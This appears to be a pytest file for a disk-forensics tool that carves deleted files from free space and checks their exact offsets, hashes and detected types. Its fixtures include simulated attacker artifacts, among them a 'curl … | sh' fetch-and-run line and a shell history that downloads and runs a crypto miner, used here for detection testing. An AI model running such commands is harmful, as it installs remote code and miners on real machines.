"""Carving: what lay in free space comes out with its exact place and the hash of what was deleted."""

import hashlib
import os
import shutil
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import hypothesis
import pytest
from hypothesis import strategies as st
from inventory_samples import entry as sample
from loop_mounts import mounted
from media import handle_of, medium_of

from images.hostile.other_disks import btrfs_image, xfs_image
from volforensic.evidence.free_space import Region
from volforensic.evidence.layout import Volume
from volforensic.evidence.node import Extent
from volforensic.evidence.reader import Window
from volforensic.evidence.signatures import Filesystem, recognise
from volforensic.evidence.space import Groups, Run
from volforensic.inventory.belonging import Belonging
from volforensic.inventory.carved_elf import LARGEST, elf_span
from volforensic.inventory.carved_text import identify_text
from volforensic.inventory.carving import MOST_PIECES
from volforensic.inventory.carving_stage import Space, carve_spaces, spaces_of
from volforensic.inventory.free_stage import FreeSpace, find_free_space
from volforensic.inventory.scanner import compile_rules
from volforensic.preload import preloaded_modules
from volforensic.record import Problem, Row
from volforensic.sandbox.pool import Pool

WALLET = b"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
RULES = """
rule wallet { strings: $a = "WALLET"
  condition: $a }
rule two { strings: $a = "first half of it" $b = "second half of it" condition: all of them }
""".replace("WALLET", WALLET.decode())
SCRIPT = b"#!/bin/bash\ncurl -s http://198.51.100.7/x | sh\n" + b"# " + b"x" * 6000 + b"\n"
LOG = b"".join(
    b"Mar  3 04:%02d:00 web1 sshd[%d]: Failed password for root from 203.0.113.9 port 4%d ssh2\n" % (n % 60, n, n)
    for n in range(300)
)
ISO_LOG = b"2026-03-03T04:05:06.123456+00:00 web1 sudo: www : TTY=pts/0 ; USER=root ; COMMAND=/bin/sh\n" * 5
CRONTAB = b"# m h dom\nSHELL=/bin/sh\n*/5 * * * * root /tmp/.x/run >/dev/null\n@reboot /tmp/.x/run\n"
HISTORY = b"cd /tmp\nwget http://198.51.100.7/xmrig\nchmod +x xmrig\n./xmrig -o pool:3333\nhistory -c\n"
CONFIG = b'{\n "algo": "rx/0",\n "pools": [{"url": "pool.example:3333"}],\n "donate-level": 1\n}\n'
NOISE = bytes(range(1, 255)) * 60


def program() -> bytes:
    return Path(shutil.which("true") or "/bin/true").read_bytes()


def carved(image: Path, spaces: list[Space], belonging: Belonging | None = None) -> tuple[list[Row], list[Problem]]:
    compiled, errors = compile_rules({"test.yar": RULES})
    assert not errors
    rows: list[Row] = []
    problems: list[Problem] = []
    with Pool(preloaded_modules([])) as pool, image.open("rb") as file:
        found = carve_spaces(
            pool, handle_of(file.fileno()), spaces, belonging or Belonging([], {}), compiled.serialize()
        )
        for each in found:
            if isinstance(each, Problem):
                problems.append(each)
            else:
                rows.append(each)
    return rows, problems


def whole(image: Path, block_size: int = 512) -> list[Space]:
    return [Space("outside every volume", None, [Run(0, image.stat().st_size)], block_size, 0)]


def test_deleted_files_are_carved_from_free_blocks(tmp_path: Path) -> None:
    files = {
        "elf": (elf_header() + NOISE)[:5000],
        "script": SCRIPT,
        "log": LOG,
        "crontab": CRONTAB,
        "shell history": HISTORY,
        "miner configuration": CONFIG,
    }
    image = tmp_path / "disk.raw"
    subprocess.run(["mkfs.ext4", "-q", str(image), "32M"], check=True, stdout=subprocess.DEVNULL)
    commands, blocks = [], {}
    for number, data in enumerate(files.values()):
        (tmp_path / f"f{number}").write_bytes(data)
        commands += [f"write {tmp_path}/f{number} f{number}", f"write {tmp_path}/f{number} kept{number}"]
    debugfs(image, commands)
    for number, kind in enumerate(files):
        blocks[kind] = int(debugfs(image, [f"blocks f{number}"]).splitlines()[-1].split()[0]) * 1024
    debugfs(image, [f"rm f{number}" for number in range(len(files))])
    disk = tmp_path / "disk"
    disk.write_bytes(bytes(1 << 20) + image.read_bytes())
    volume = Volume(
        index=1,
        offset=1 << 20,
        length=32 << 20,
        kind="gpt",
        description="",
        filesystem=Filesystem(type="ext4", block_size=1024),
    )
    with Pool(preloaded_modules([])) as pool, disk.open("rb") as file:
        free = [
            each for each in find_free_space(pool, handle_of(file.fileno()), [volume]) if isinstance(each, FreeSpace)
        ]
    rows, problems = carved(disk, spaces_of([volume], free, []))
    assert problems == []
    found = {row["kind"]: row for row in rows}
    assert len(rows) == len(found) == len(files), "each once, and none of the files that are kept"
    for kind, data in files.items():
        row = found[kind]
        assert (row["offset"], row["length"]) == (blocks[kind] + (1 << 20), len(data)), kind
        assert row["sha256"] == hashlib.sha256(data).hexdigest()
        assert (row["space"], row["volume"]) == ("free blocks", 1)
    content = disk.read_bytes()
    for row in rows:
        for line in row["lines"]:
            assert content[line["offset"] :].startswith(line["text"].encode()), "each line has its exact place"
    assert len(found["log"]["lines"]) == 200
    assert found["crontab"]["lines"][0]["text"].startswith("*/5 * * * * root")


def debugfs(image: Path, commands: list[str]) -> str:
    script = "\n".join(commands) + "\n"
    return subprocess.run(
        ["debugfs", "-w", "-f", "-", str(image)], input=script, check=True, capture_output=True, text=True
    ).stdout.strip()


def disk_of(tmp_path: Path, parts: dict[int, bytes], size: int = 4 << 20) -> Path:
    data = bytearray(size)
    for offset, part in parts.items():
        data[offset : offset + len(part)] = part
    image = tmp_path / "disk"
    image.write_bytes(data)
    return image


def test_a_yara_match_gives_the_blocks_around_it(tmp_path: Path) -> None:
    piece = NOISE + WALLET + NOISE
    image = disk_of(tmp_path, {8192: piece})
    (row,), _ = carved(image, whole(image))
    assert (row["kind"], row["yara"], row["offset"]) == ("yara", ["wallet"], 8192)
    end = 8192 + -(-len(piece) // 512) * 512
    assert row["length"] == end - 8192
    (match,) = row["matches"]
    assert match["strings"][0]["offset"] == len(NOISE), "within the piece"


def test_a_match_put_together_from_unrelated_places_is_none(tmp_path: Path) -> None:
    image = disk_of(tmp_path, {0: b"\1first half of it\1", 3 << 20: b"\1second half of it\1"})
    assert carved(image, whole(image)) == ([], [])


@pytest.mark.parametrize("offset", [(8 << 20) - 40, (8 << 20) - (64 << 10) - 40, (64 << 20) - 40])
def test_a_match_across_a_border_is_found_once(tmp_path: Path, offset: int) -> None:
    data = b"\1" * (65 << 20)
    image = tmp_path / "disk"
    image.write_bytes(data[:offset] + WALLET + data[offset + len(WALLET) :])
    rows, problems = carved(image, whole(image))
    assert not problems
    assert [row["yara"] for row in rows] == [["wallet"]]
    assert rows[0]["offset"] + rows[0]["matches"][0]["strings"][0]["offset"] == offset


def test_pieces_in_small_runs_of_one_window_keep_their_places(tmp_path: Path) -> None:
    image = disk_of(tmp_path, {0: CRONTAB, 512: SCRIPT, 1 << 20: LOG, (2 << 20) + 512: b"\1" + WALLET})
    spaces = [
        Space("free blocks", 1, [Run(0, 512), Run(1 << 20, 1 << 15), Run((2 << 20) + 512, 512)], 512, 0),
    ]
    rows, _ = carved(image, spaces)
    assert [(row["kind"], row["offset"]) for row in rows] == [
        ("crontab", 0),
        ("log", 1 << 20),
        ("yara", (2 << 20) + 512),
    ], "the script lies in no run"
    assert rows[1]["sha256"] == hashlib.sha256(LOG).hexdigest()


def test_a_program_that_the_free_run_cuts_says_so(tmp_path: Path) -> None:
    data = program()
    image = disk_of(tmp_path, {0: data})
    (row,), _ = carved(image, [Space("free blocks", 1, [Run(0, 8192)], 4096, 0)])
    assert row["length"] == 8192
    assert any(f"it has {len(data)} bytes by its headers" in note for note in row["notes"])


def elf_header(**values: int) -> bytes:
    fields = {"kind": 2, "machine": 62, "version": 1, "entry": 0, "programs_at": 64, "sections_at": 0, "flags": 0}
    fields |= {"size": 64, "program_size": 56, "programs": 1, "section_size": 64, "sections": 0, "names": 0}
    head = struct.pack("<HHIQQQIHHHHHH", *(fields | values).values())
    return b"\x7fELF\2\1\1" + bytes(9) + head + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 5000, 5000, 4096)


def reader(data: bytes) -> Callable[[int, int], bytes]:
    return lambda position, size: data[position : position + size]


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        ({}, 5000),
        ({"sections_at": 6000, "sections": 2}, 6128),
        ({"sections_at": 1 << 62, "sections": 2}, 120),
        ({"programs": 60000}, None),
        ({"program_size": 1}, None),
        ({"version": 7}, None),
        ({"machine": 0}, None),
        ({"programs": 0}, None),
    ],
)
def test_the_length_of_a_program_is_bounded(values: dict[str, int], expected: int | None) -> None:
    span = elf_span(reader(elf_header(**values) + bytes(3000)))
    assert (span.size if span else None) == expected


def test_section_headers_that_were_overwritten_raise_a_doubt() -> None:
    data = elf_header(sections_at=6000, sections=2) + bytes(9000)
    assert elf_span(reader(data)).doubt == ""  # type: ignore[union-attr]  # it is one
    broken = data[:6000] + b"\xff" * 128 + data[6128:]
    span = elf_span(reader(broken))
    assert span is not None
    assert "fragmented" in span.doubt
    assert span.size == 6128


def test_real_programs_have_the_length_that_they_have() -> None:
    names = ("true", "ls", "bash", "python3", "ssh", "tar")
    for path in {Path(found).resolve() for name in names if (found := shutil.which(name))}:
        data = path.read_bytes()
        if data.startswith(b"\x7fELF"):
            span = elf_span(reader(data))
            assert span is not None
            assert (span.size, span.doubt) == (len(data), ""), path


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (SCRIPT, "script"),
        (LOG, "log"),
        (ISO_LOG, "log"),
        (LOG[17:], "log"),
        (b'10.0.0.1 - - [03/Mar/2026:04:05:06 +0000] "GET /x.php HTTP/1.1" 200 5\n' * 3, "log"),
        (b"type=EXECVE msg=audit(1700000000.1:5): argc=1\n" * 3, "log"),
        (CRONTAB, "crontab"),
        (HISTORY, "shell history"),
        (b"#1700000000\nunknown-tool --x\n#1700000005\nother\n", "shell history"),
        (CONFIG, "miner configuration"),
        (b'{"name": "package", "version": "1.0"}\n', None),
        (b"#!not a script\n", None),
        (b"#include <stdio.h>\nint main(void) { return 0; }\n" * 20, None),
        (b"The quick brown fox jumps over the lazy dog.\n" * 20, None),
        (b"Copyright 2026-01-01 00:00:00 somebody\nMIT licence\nwithout warranty\nof any kind\n", None),
    ],
)
def test_what_a_text_is(data: bytes, kind: str | None) -> None:
    found = identify_text(data)
    assert (found.kind if found else None) == kind


def test_logins_are_told_before_other_lines() -> None:
    plain = b"".join(b"Mar  3 04:05:06 web1 kernel: [%d] usb 1-1: new device\n" % n for n in range(5000))
    found = identify_text(plain + LOG[:100])
    assert found is not None
    assert len(found.lines) == 200
    assert b"Failed password" in found.lines[-1][1]


def test_too_many_pieces_are_said(tmp_path: Path) -> None:
    image = disk_of(tmp_path, {n * 512: b"#!/bin/sh\nexit %d\n" % n for n in range(MOST_PIECES + 10)})
    rows, problems = carved(image, whole(image))
    assert len(rows) == MOST_PIECES, problems
    assert problems[0].offset == MOST_PIECES * 512
    assert problems[0].length == (4 << 20) - MOST_PIECES * 512
    assert "pieces: the rest was left out" in problems[0].reason


def test_a_source_that_ends_early_is_said(tmp_path: Path) -> None:
    image = disk_of(tmp_path, {0: CRONTAB}, 4096)
    rows, problems = carved(image, [Space("swap", 2, [Run(0, 8192)], 512, 0)])
    assert [row["kind"] for row in rows] == ["crontab"]
    assert [(problem.offset, problem.length) for problem in problems] == [(4096, 4096)]


def deleted(path: bytes, **values: Any) -> Any:
    return sample(path, allocated=False, **values)


def test_which_name_a_piece_may_belong_to() -> None:
    entries = [
        deleted(b"/srv/named", inode=12, size=100, extents=(Extent(0, 5000, 4096),)),
        deleted(b"/srv/same", inode=90000, size=77),
        deleted(b"/srv/near.sh", inode=13),
        deleted(b"/srv/far.sh", inode=90000),
        deleted(b"/srv/near.png", inode=14),
        sample(b"/srv/living.sh", inode=15, size=77),
    ]
    belonging = Belonging(entries, {1: Groups(0, 1 << 20, 1000, 1)})
    reasons = {row["path"]: row["reason"] for row in belonging.reasons("script", 1, 5000, 77)}
    assert list(reasons) == ["/srv/named", "/srv/same", "/srv/near.sh"]
    assert "names the block" in reasons["/srv/named"]
    assert "same size, 77" in reasons["/srv/same"]
    assert "block group 0" in reasons["/srv/near.sh"]


def test_what_lies_outside_of_free_blocks_is_carved_too(tmp_path: Path) -> None:
    image = disk_of(tmp_path, {1 << 20: CRONTAB})
    region = Region(kind="swap", offset=1 << 20, length=1 << 20, volume=2)
    ((row,), _) = carved(image, spaces_of([], [], [region]))
    assert (row["space"], row["volume"], row["offset"]) == ("swap", 2, 1 << 20)
    assert os.fspath(image)


@hypothesis.given(
    st.binary(max_size=400), st.sampled_from([b"\x7fELF\2\1\1", b"\x7fELF\1\2\1", b"#!/", b"{", b"1 * * ", b""])
)
def test_any_bytes_are_taken(data: bytes, head: bytes) -> None:
    found = identify_text(head + data)
    assert found is None or all(0 <= start <= len(head + data) for start, _ in found.lines)
    span = elf_span(reader(head + data))
    assert span is None or 0 < span.size <= LARGEST


@pytest.mark.parametrize("kind", ["ext4", "xfs", "btrfs"])
def test_a_program_that_the_kernel_deleted_is_carved_whole(tmp_path: Path, kind: str) -> None:
    image = tmp_path / "made" / "disk.raw"
    if kind == "ext4":
        image.parent.mkdir()
        subprocess.run(["mkfs.ext4", "-q", str(image), "32M"], check=True, stdout=subprocess.DEVNULL)
    else:
        (xfs_image if kind == "xfs" else btrfs_image)(image.parent)
    data = program() + os.urandom(1)  # what was appended behind the program cannot be told from what follows
    with mounted(image, tmp_path / "mount", "nodiscard") as folder:
        (folder / "miner").write_bytes(data)
        (folder / "kept").write_bytes(data)
    with mounted(image, tmp_path / "mount", "nodiscard") as folder:
        (folder / "miner").unlink()
    size = image.stat().st_size
    with Pool(preloaded_modules([])) as pool, image.open("rb") as file:
        filesystem = recognise(Window(medium_of(file.fileno()), 0, size))
        volume = Volume(index=0, offset=0, length=size, kind="whole", description="", filesystem=filesystem)
        free = [
            each for each in find_free_space(pool, handle_of(file.fileno()), [volume]) if isinstance(each, FreeSpace)
        ]
    rows, problems = carved(image, spaces_of([volume], free, []))
    assert problems == []
    programs = [row for row in rows if row["kind"] == "elf"]
    assert [row["sha256"] for row in programs] == [hashlib.sha256(program()).hexdigest()], "and not the kept one"
    offset = programs[0]["offset"]
    assert image.read_bytes()[offset : offset + len(program())] == program()
